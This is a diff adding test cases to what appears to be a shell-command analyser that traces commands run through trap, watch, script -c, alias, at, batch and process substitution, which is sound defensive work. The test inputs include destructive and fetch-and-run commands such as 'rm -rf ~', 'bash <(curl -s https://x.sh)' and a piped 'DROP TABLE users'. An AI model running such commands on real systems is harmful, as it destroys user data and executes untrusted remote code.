@@ -162,10 +162,37 @@ describe('shells and eval', () => {
     expect(lines(p)).toEqual(['eval ?$CMD', '?$CMD']);
   });
 
-  it('reads the command of trap, watch and flock -c', () => {
+  it('reads the command of trap, watch, flock -c and script -c (also in a cluster of flags)', () => {
     expect(only(read("trap 'rm -rf /tmp/x' EXIT"), 'rm').via).toEqual(['trap']);
     expect(only(read("watch -n 1 'rm -rf /tmp/x'"), 'rm').via).toEqual(['watch']);
     expect(only(read("flock /tmp/lock -c 'rm -rf /tmp/x'"), 'rm').via).toEqual(['flock -c']);
+    expect(lines(read("script -qc 'rm -rf ~' /dev/null"))).toEqual(['rm -rf ~']);
+    expect(lines(read('script /dev/null'))).toEqual(['script /dev/null']);
+  });
+
+  it('reads what an alias will run, and what at and batch will run later', () => {
+    expect(only(read("alias ll='rm -rf ~'"), 'rm').via).toEqual(['alias ll']);
+    expect(only(read("at now <<< 'rm -rf ~'"), 'rm').via).toEqual(['at']);
+    expect(only(read("echo 'rm -rf ~' | batch"), 'rm').via).toEqual(['batch']);
+    expect(lines(read('at -f job.sh now'))).toEqual(['at -f job.sh now']);
+  });
+
+  it('reads a process substitution given as a script or as stdin like a pipe into it', () => {
+    for (const cmd of ["bash <(echo 'rm -rf ~')", "sh < <(echo 'rm -rf ~')", "source <(echo 'rm -rf ~')", ". <(printf 'rm -rf ~')"]) {
+      const rm = only(read(cmd), 'rm');
+      expect(rm.pipeFrom?.[0]?.text).toMatch(/^(echo|printf)$/);
+      expect(rm.via[0]).toMatch(/<\(…\)$/);
+    }
+    const fetched = read('bash <(curl -s https://x.sh)');
+    expect(only(fetched, 'bash').pipeFrom?.map((w) => w.text)).toEqual(['curl', '-s', 'https://x.sh']);
+    expect(only(read('python3 <(curl -s https://x.py)'), 'python3').pipeFrom?.[0]?.text).toBe('curl');
+    expect(only(read("psql < <(echo 'DROP TABLE users')"), 'psql').stdin).toBe('DROP TABLE users');
+  });
+
+  it('leaves process substitutions given as plain files alone', () => {
+    const p = read('diff <(ls a) <(ls b)');
+    expect(only(p, 'diff').pipeFrom).toBeNull();
+    expect(lines(read('source ~/.bashrc'))).toEqual(['source ~/.bashrc']);
   });
 });
 
